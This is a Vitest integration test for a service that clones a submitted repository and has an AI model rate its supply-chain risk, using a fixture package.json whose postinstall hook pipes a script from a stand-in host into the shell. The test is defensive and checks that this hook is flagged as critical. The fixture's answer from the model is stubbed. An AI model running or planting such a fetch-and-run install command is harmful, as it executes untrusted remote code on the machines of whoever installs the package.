import { readdir } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { scan } from '../../../server/scans/scan.ts';
import { repositoryOf, startGitServer } from '../../support/git-server.ts';
import { onBothDatabases } from '../../support/server.ts';
import { loopback } from '../scans/scanning.ts';
import { startScanning } from './scanning.ts';

/** This machine under a name that no resolver knows. */
const network: typeof loopback = {
  ...loopback,
  resolve: (name) => loopback.resolve(name.replace(/^git\.invalid$/, 'localhost')),
};

onBothDatabases((kind) => {
  test('a submitted repository is cloned, examined and judged under the organization’s key', async () => {
    const evidence = 'curl -s https://cdn.invalid/x.sh | sh';
    const scripts = { scripts: { postinstall: evidence } };
    const files = { 'package.json': JSON.stringify(scripts, null, 2), 'README.md': '# App' };
    await using git = await startGitServer({ app: repositoryOf(files) });
    await using it = await startScanning(kind, {
      scans: { scan: (source, context) => scan(source, { ...context, network }) },
    });
    it.anthropic.answer = {
      summary: 'It runs a downloaded script.',
      risk_score: 95,
      findings: [
        {
          ...{ subject: 'install', severity: 'critical', title: 'Runs a download' },
          ...{ file: 'package.json', evidence, advice: 'Do not install it.' },
        },
      ],
    };
    const url = git.origin.replace(/127\.0\.0\.1|localhost/, 'git.invalid');
    const { body } = await it.call('repos/analyze', { url: `${url}/app` });
    await it.work();
    expect(await it.job(body.job_id)).toMatchObject({ status: 'completed', error_message: null });
    const report = (await it.call(`repos/${body.repo_id}/report`)).body;
    expect(report).toMatchObject({ status: 'completed', risk_level: 'critical', partial: false });
    expect(report.summary).toContain('It runs a downloaded script.');
    expect(report.findings.map(({ rule }: { rule: string }) => rule)).toContain('model-install');
    expect(await readdir(it.server.uploads)).toEqual([]);
  });
});
